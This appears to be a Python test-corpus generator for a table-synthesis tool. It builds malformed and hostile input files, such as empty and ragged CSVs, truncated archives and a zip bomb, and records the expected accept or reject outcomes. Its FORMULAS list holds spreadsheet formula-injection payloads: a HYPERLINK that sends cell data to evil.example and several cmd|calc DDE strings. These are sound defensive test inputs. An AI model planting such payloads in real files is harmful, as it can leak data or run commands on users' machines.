"""Write the hostile-input corpus: broken, odd and malicious tables, each made from code.

Run `python tests/corpus/make_corpus.py DIR` to write every case into DIR. Each case says what
it is, which CLI arguments go with it, and what tabsynth must do with it per method: produce a
valid synthetic table and report ("ok"), or exit 2 with a one-line message ("reject", plus a
phrase that message must contain). Nothing here is copied from a real dataset.
"""

from __future__ import annotations

import gzip
import io
import json
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field, replace
from pathlib import Path

import numpy as np
import pandas as pd

CORE_METHODS = ("faker", "gaussian-copula", "ctgan", "dp-gan")
METHODS = (*CORE_METHODS, "autoregressive")
# autoregressive reads and encodes through the DP-GAN's domain, so it runs where what it adds
# could break: many steps or tokens, odd or missing values, targets, made-up columns only
AUTOREGRESSIVE_CASES = frozenset({
    "one_column", "all_null_column", "constant_column", "missing_heavy", "categories_10k",
    "columns_500", "numbers_with_text", "mixed_dates", "inf_nan_strings", "extreme_values",
    "bool_mixed", "only_pii", "one_class_target", "missing_target", "parquet_odd_types",
    "formula_injection",
})
READING_ONLY = ("gaussian-copula",)
# rejected while the file is read (load_table), before any method is involved: one method
# suffices, as for READING_ONLY cases (test_corpus.py checks that reading rejects them)
READ_REJECTS = frozenset({
    "empty", "whitespace_only", "header_only", "one_row", "binary_garbage", "control_chars",
    "duplicate_headers", "whitespace_duplicate_headers", "blank_header", "ragged_rows",
    "unclosed_quote", "file_over_cap", "truncated_gzip", "truncated_parquet",
    "xlsx_multi_sheet", "zip_bomb_xlsx", "zip_not_workbook",
})
ROWS = 200


@dataclass(frozen=True)
class Case:
    """One corpus file and what tabsynth must do with it."""

    name: str
    filename: str
    build: Callable[[Path], None]
    summary: str
    expect: str = "ok"  # "ok" or "reject", for every method unless `per_method` says otherwise
    message: str = ""  # a phrase the one-line error must contain (rejects)
    per_method: dict[str, tuple[str, str]] = field(default_factory=dict)
    args: tuple[str, ...] = ()
    # the methods to run: every one unless the case only exercises reading the file, whose
    # outcome no method changes (one learning method then suffices)
    methods: tuple[str, ...] = CORE_METHODS
    pdf: bool = False  # also render report.pdf (cases whose text could break the PDF)
    # what reading the file whole (the page, `load_table`) says, where that differs from the
    # command line's run, which streams a file over the reading limits
    whole_read_message: str | None = None

    def expected(self, method: str) -> tuple[str, str]:
        return self.per_method.get(method, (self.expect, self.message))


def base_frame(rows: int = ROWS, seed: int = 0) -> pd.DataFrame:
    """A small, clean, correlated table that the hostile cases then break."""
    rng = np.random.default_rng(seed)
    age = rng.integers(18, 90, rows)
    group = rng.choice(["alpha", "beta", "gamma"], rows, p=[0.5, 0.3, 0.2])
    income = np.round(1000 + 40 * age + rng.normal(0, 300, rows), 2)
    return pd.DataFrame({
        "age": age,
        "group": group,
        "income": income,
        "member": rng.choice(["yes", "no"], rows),
        "joined": (pd.Timestamp("2020-01-01")
                   + pd.to_timedelta(rng.integers(0, 900, rows), unit="D")).strftime("%Y-%m-%d"),
        "label": np.where(income + rng.normal(0, 400, rows) > 2800, "high", "low"),
    })


def _csv(frame: pd.DataFrame, **kwargs) -> Callable[[Path], None]:
    return lambda path: frame.to_csv(path, index=False, **kwargs)


def _bytes(payload: bytes) -> Callable[[Path], None]:
    return lambda path: path.write_bytes(payload)


def _text(text: str, encoding: str = "utf-8") -> Callable[[Path], None]:
    return lambda path: path.write_bytes(text.encode(encoding))


def _base_text(frame: pd.DataFrame | None = None) -> str:
    return (base_frame() if frame is None else frame).to_csv(index=False)


def _with(column: str, values: object, frame: pd.DataFrame | None = None) -> pd.DataFrame:
    out = base_frame() if frame is None else frame.copy()
    out[column] = values
    return out


def _ragged(path: Path) -> None:
    lines = _base_text().splitlines()
    lines[57] += ",surplus"
    path.write_text("\n".join(lines) + "\n")


def _mixed_encodings(path: Path) -> None:
    frame = _with("city", ["Zürich", "Kraków", "São Paulo", "Malmö"] * (ROWS // 4))
    text = frame.to_csv(index=False).splitlines(keepends=True)
    half = len(text) // 2
    path.write_bytes("".join(text[:half]).encode("utf-8")
                     + "".join(text[half:]).encode("latin-1", errors="replace"))


def _invalid_utf8(path: Path) -> None:
    data = bytearray(_base_text().encode())
    for offset in range(400, len(data), 997):  # stray continuation bytes inside cells
        if chr(data[offset]).isalpha():
            data[offset] = 0x9F
    path.write_bytes(bytes(data))


def _many_categories(path: Path) -> None:
    rng = np.random.default_rng(1)
    rows = 20_000
    codes = np.repeat(np.arange(10_000), 2)
    rng.shuffle(codes)
    frame = pd.DataFrame({"product": [f"P{c:05d}x" for c in codes],
                          "qty": rng.integers(1, 9, rows),
                          "shop": rng.choice(["north", "south", "east"], rows)})
    frame.to_csv(path, index=False)


def _wide(path: Path) -> None:
    rng = np.random.default_rng(2)
    base = rng.normal(size=(ROWS, 1))
    values = base + rng.normal(scale=0.5, size=(ROWS, 500))
    frame = pd.DataFrame(np.round(values, 3), columns=[f"m{i:03d}" for i in range(500)])
    frame.to_csv(path, index=False)


def _huge_cells(path: Path) -> None:
    frame = base_frame(rows=30)
    rng = np.random.default_rng(3)
    words = np.array(["lorem", "ipsum", "dolor", "sit", "amet", "consectetur"])
    frame["notes"] = [" ".join(rng.choice(words, 170_000)) for _ in range(len(frame))]
    frame.to_csv(path, index=False)


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "=1+1"]


def _formula_cells(path: Path) -> None:
    frame = _with("comment", [FORMULAS[i % len(FORMULAS)] for i in range(ROWS)])
    frame["=HYPERLINK(\"x\")"] = base_frame()["group"]
    frame.to_csv(path, index=False)


def _stray_numbers(path: Path) -> None:
    rng = np.random.default_rng(4)
    price = [f"€{v:,.2f}" if i % 3 else f"{v:,.1f}" for i, v in
             enumerate(rng.uniform(10, 5000, ROWS))]
    weight = [f"{w:.1f} kg" for w in rng.uniform(40, 120, ROWS)]
    count = [str(c) if i % 17 else "n/a" for i, c in enumerate(rng.integers(0, 50, ROWS))]
    _with("price", price).assign(weight=weight, count=count).to_csv(path, index=False)


def _mixed_dates(path: Path) -> None:
    formats = ["%Y-%m-%d", "%d/%m/%Y", "%b %d, %Y", "%Y%m%d"]
    days = pd.Timestamp("2019-01-01") + pd.to_timedelta(np.arange(ROWS) * 3, unit="D")
    mixed = [d.strftime(formats[i % len(formats)]) for i, d in enumerate(days)]
    mixed[5], mixed[9] = "2021-02-30", "2021-13-01"
    _with("when", mixed).to_csv(path, index=False)


def _impossible_dates(path: Path) -> None:
    frame = base_frame()
    joined = frame["joined"].tolist()
    joined[17], joined[120] = "2021-02-30", "2021-13-45"
    frame.assign(joined=joined).to_csv(path, index=False)


def _inf_strings(path: Path) -> None:
    tokens = ["inf", "-inf", "NaN", "Infinity", "-Infinity"]
    values = [tokens[i % 5] if i % 10 == 0 else f"{v:.3f}" for i, v in
              enumerate(np.random.default_rng(5).normal(size=ROWS))]
    _with("score", values).to_csv(path, index=False)


def _odd_names(path: Path) -> None:
    frame = base_frame().rename(columns={
        "age": "😀 age", "group": "المجموعة", "income": "income.total", "member": "member[0]",
        "joined": "joined (date)", "label": "label\u202e"})
    frame.to_csv(path, index=False)


def _multi_sheet(path: Path) -> None:
    with pd.ExcelWriter(path, engine="openpyxl") as writer:
        base_frame().to_excel(writer, sheet_name="people", index=False)
        base_frame(seed=1).to_excel(writer, sheet_name="more", index=False)


def _xlsx(path: Path) -> None:
    base_frame().to_excel(path, index=False, engine="openpyxl")


def _zip_bomb(path: Path) -> None:
    chunk = b"\0" * (1 << 20)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as entry:
            for _ in range(1100):
                entry.write(chunk)


def _zip_not_workbook(path: Path) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("readme.txt", "not a workbook")


def _over_cap(path: Path) -> None:
    with path.open("wb") as handle:  # sparse: no disk used, and NUL bytes after the header
        handle.write(b"a,b\n")
        handle.truncate(201 * 1024 * 1024)


def _truncated_gzip(path: Path) -> None:
    path.write_bytes(gzip.compress(_base_text().encode())[:300])


def _truncated_parquet(path: Path) -> None:
    buffer = io.BytesIO()
    base_frame().to_parquet(buffer)
    path.write_bytes(buffer.getvalue()[: len(buffer.getvalue()) // 2])


def _parquet_odd_types(path: Path) -> None:
    frame = base_frame()
    frame["tags"] = [["a", "b"][: i % 3] for i in range(ROWS)]
    frame["when"] = pd.date_range("2021-01-01", periods=ROWS, freq="h", tz="Europe/Paris")
    frame["group"] = frame["group"].astype("category")
    frame["flag"] = pd.array([True, False, None, True] * (ROWS // 4), dtype="boolean")
    frame.to_parquet(path)


def _quoted_newlines(path: Path) -> None:
    frame = _with("address", [f"{i} Main Street\nFlat {i % 7}\r\nTown" for i in range(ROWS)])
    frame.to_csv(path, index=False)


def _unclosed_quote(path: Path) -> None:
    lines = _base_text().splitlines()
    lines[30] = lines[30].replace(",", ',"', 1)
    path.write_text("\n".join(lines) + "\n")


def _utf16(path: Path) -> None:
    path.write_bytes(_base_text().replace(",", "\t").encode("utf-16"))


def _extreme_values(path: Path) -> None:
    rng = np.random.default_rng(6)
    values = rng.normal(size=ROWS) * 1e300
    values[::50] = 1.7e308
    values[1::50] = -1.7e308
    tiny = rng.normal(size=ROWS) * 1e-300
    _with("huge", values).assign(tiny=tiny).to_csv(path, index=False)


def _duplicate_rows(path: Path) -> None:
    pd.concat([base_frame(rows=1)] * ROWS).to_csv(path, index=False)


def _only_pii(path: Path) -> None:
    names = ["Ada Lovelace", "Alan Turing", "Grace Hopper", "Edsger Dijkstra", "Barbara Liskov"]
    emails = [f"user{i}@example.org" for i in range(ROWS)]
    pd.DataFrame({"email": emails, "name": [names[i % 5] + f" {i}" for i in range(ROWS)]}
                 ).to_csv(path, index=False)


def _long_header(path: Path) -> None:
    base_frame().rename(columns={"group": "g" * 5000}).to_csv(path, index=False)


def _whitespace_duplicate_headers(path: Path) -> None:
    text = _base_text()
    path.write_text(text.replace("age,group", "age , age", 1))


def _bool_mixed(path: Path) -> None:
    values = ["yes", "no", "Y", "N", "true", "0", "1", "maybe"]
    _with("consent", [values[i % len(values)] for i in range(ROWS)]).to_csv(path, index=False)


def _missing_heavy(path: Path) -> None:
    frame = base_frame().astype(object)
    rng = np.random.default_rng(7)
    mask = rng.random(frame.shape) < 0.6
    frame = frame.mask(mask)
    frame.to_csv(path, index=False)


CASES: tuple[Case, ...] = (
    Case("empty", "empty.csv", _bytes(b""), "0-byte file", "reject", "empty"),
    Case("whitespace_only", "blank.csv", _text("\n \n\t\n\n"), "only blank lines", "reject",
         "empty"),
    Case("header_only", "header.csv", _text("a,b,c\n"), "a header and no rows", "reject",
         "no data rows"),
    Case("one_row", "one_row.csv", _text("a,b\n1,2\n"), "one data row", "reject",
         "only 1 data rows"),
    Case("one_column", "one_column.csv", _csv(base_frame()[["income"]]), "a single numeric "
         "column"),
    Case("binary_garbage", "garbage.csv",
         _bytes(np.random.default_rng(8).bytes(50_000)), "random bytes", "reject", "binary"),
    Case("control_chars", "control.csv",
         _bytes(bytes(np.random.default_rng(9).integers(1, 32, 20_000, dtype=np.uint8))),
         "text full of control characters", "reject", "does not look like text"),
    Case("semicolon_decimal_comma", "semicolon.csv",
         _csv(base_frame(), sep=";", decimal=","), "';' delimiter, decimal commas",
         methods=READING_ONLY),
    Case("tab_in_csv", "tabs.csv", _csv(base_frame(), sep="\t"), "tab-separated named .csv",
         methods=READING_ONLY),
    Case("pipe_delimited", "pipes.txt", _csv(base_frame(), sep="|"), "'|' delimiter",
         methods=READING_ONLY),
    Case("utf8_bom", "bom.csv", _text(_base_text(), "utf-8-sig"), "UTF-8 with a BOM",
         methods=READING_ONLY),
    Case("utf16_excel_text", "unicode.txt", _utf16, "UTF-16 with BOM, tab-separated (Excel "
         "'Unicode text')", methods=READING_ONLY),
    Case("invalid_utf8", "bad_utf8.csv", _invalid_utf8, "stray invalid UTF-8 bytes",
         methods=("gaussian-copula", "dp-gan")),
    Case("mixed_encodings", "mixed_enc.csv", _mixed_encodings, "half UTF-8, half Latin-1",
         methods=("gaussian-copula", "dp-gan")),
    Case("duplicate_headers", "dup.csv", _text("a,b,a\n" + "1,2,3\n" * 20),
         "two columns named a", "reject", "duplicate column name"),
    Case("whitespace_duplicate_headers", "dup_ws.csv", _whitespace_duplicate_headers,
         "'age ' and 'age' (equal once trimmed)", "reject", "duplicate column name"),
    Case("blank_header", "blank_header.csv", _text("a,,c\n" + "1,2,3\n" * 20),
         "an unnamed column", "reject", "blank name"),
    Case("ragged_rows", "ragged.csv", _ragged, "line 58 has an extra field", "reject",
         "line 58: 7 fields"),
    Case("unclosed_quote", "unclosed.csv", _unclosed_quote,
         "an opening quote that never closes", "reject", "never to close"),
    Case("quoted_newlines", "newlines.csv", _quoted_newlines,
         "quoted cells holding line breaks", methods=READING_ONLY),
    Case("all_null_column", "all_null.csv", _csv(_with("empty", None)), "a column with no "
         "values"),
    Case("constant_column", "constant.csv", _csv(_with("country", "NL")), "a one-value column"),
    Case("duplicate_rows", "same_row.csv", _duplicate_rows, "every row identical"),
    Case("missing_heavy", "missing.csv", _missing_heavy, "60 % of cells missing"),
    Case("categories_10k", "categories.csv", _many_categories,
         "a 10,000-category column (20,000 rows)",
         per_method={"ctgan": ("reject", "categories")}),
    # what a wide table can break is reading, the evaluation and the report (faker: nothing
    # else runs) and a learned model's width (autoregressive: 500 steps a row, through the
    # DP-GAN's domain). The others added SDV's training time (CTGAN 199 s, copula 84 s on a
    # CI run; CTGAN's width check is unit-tested in test_faults.py) and, for the DP-GAN at
    # the default epsilon on 200 rows, a model with 496 of its 500 columns left empty
    Case("columns_500", "wide.csv", _wide, "500 correlated numeric columns",
         methods=("faker",)),  # autoregressive added below (AUTOREGRESSIVE_CASES)
    Case("cells_1mb", "huge_cells.csv", _huge_cells, "30 cells of ~1 MB of text"),
    Case("formula_injection", "formulas.csv", _formula_cells,
         "=HYPERLINK, +cmd|, @SUM, -2+3 cells and a formula header", pdf=True),
    Case("numbers_with_text", "stray.csv", _stray_numbers,
         "€12, 1,234.5, '12.3 kg' and n/a in number columns"),
    Case("mixed_dates", "mixed_dates.csv", _mixed_dates,
         "four date formats and impossible dates in one column"),
    Case("impossible_dates", "bad_dates.csv", _impossible_dates,
         "2021-02-30 and 2021-13-45 in a date column", "reject", "row 19",
         # a DP run learns its schema from noisy counts: values that do not fit the learned
         # kind are read as missing and named in the review (with the row), not rejected
         per_method={"dp-gan": ("ok", "")}),
    Case("inf_nan_strings", "inf.csv", _inf_strings, "inf, -inf, NaN, Infinity strings"),
    Case("extreme_values", "extreme.csv", _extreme_values, "±1.7e308 and 1e-300 magnitudes"),
    Case("odd_column_names", "names.csv", _odd_names,
         "emoji, Arabic (RTL), dotted, bracketed names and an RTL override", pdf=True),
    Case("long_header", "long_header.csv", _long_header, "a 5,000-character column name", pdf=True),
    Case("bool_mixed", "bools.csv", _bool_mixed, "yes/no/Y/N/true/0/1/maybe in one column"),
    Case("only_pii", "only_pii.csv", _only_pii, "nothing but emails and names"),
    Case("one_class_target", "one_class.csv", _csv(_with("label", "low")),
         "--target whose only class is 'low'", args=("--target", "label")),
    Case("missing_target", "no_target.csv", _csv(base_frame()), "--target that does not "
         "exist", "reject", "target column", args=("--target", "nope")),
    Case("file_over_cap", "huge.csv", _over_cap, "201 MB (sparse: NUL bytes) over the 200 MB "
         "cap: read whole it is refused by size; the command line streams it and finds binary "
         "data", "reject", "binary data", whole_read_message="over the 200 MiB limit"),
    Case("truncated_gzip", "cut.csv.gz", _truncated_gzip, "a gzip cut short", "reject",
         "gzip"),
    Case("truncated_parquet", "cut.parquet", _truncated_parquet, "a Parquet file cut in half",
         "reject", "Parquet"),
    Case("parquet_odd_types", "odd.parquet", _parquet_odd_types,
         "list cells, tz-aware datetimes, pandas categorical and nullable boolean"),
    Case("xlsx_one_sheet", "one.xlsx", _xlsx, "a plain workbook", methods=READING_ONLY),
    Case("xlsx_multi_sheet", "multi.xlsx", _multi_sheet, "two sheets, none chosen", "reject",
         "--sheet"),
    Case("xlsx_multi_sheet_chosen", "multi_chosen.xlsx", _multi_sheet,
         "two sheets, --sheet more", args=("--sheet", "more"), methods=READING_ONLY),
    Case("zip_bomb_xlsx", "bomb.xlsx", _zip_bomb, "1.1 GB of zeros deflated, named .xlsx",
         "reject", "zip bomb"),
    Case("zip_not_workbook", "not_book.xlsx", _zip_not_workbook, "a zip without a workbook",
         "reject", "not an Excel workbook"),
)
CASES = tuple(replace(case, methods=(*case.methods, "autoregressive"))
              if case.name in AUTOREGRESSIVE_CASES else case for case in CASES)
CASES = tuple(replace(case, methods=READING_ONLY) if case.name in READ_REJECTS else case
              for case in CASES)


def build(out_dir: Path, names: list[str] | None = None) -> list[tuple[Case, Path]]:
    """Write the chosen cases (all by default) into out_dir; returns (case, path) pairs."""
    out_dir.mkdir(parents=True, exist_ok=True)
    written = []
    for case in CASES:
        if names and case.name not in names:
            continue
        path = out_dir / case.filename
        if not path.exists():
            case.build(path)
        written.append((case, path))
    return written


def manifest() -> list[dict[str, object]]:
    return [{"name": c.name, "file": c.filename, "summary": c.summary, "args": list(c.args),
             "expected": {m: c.expected(m)[0] for m in c.methods}} for c in CASES]


if __name__ == "__main__":
    target = Path(sys.argv[1] if len(sys.argv) > 1 else "tests/corpus/generated")
    for case, path in build(target):
        print(f"{case.name:<30} {path.stat().st_size:>12,} B  {case.summary}")
    (target / "manifest.json").write_text(json.dumps(manifest(), indent=2))
    print(f"{len(CASES)} cases in {target}")
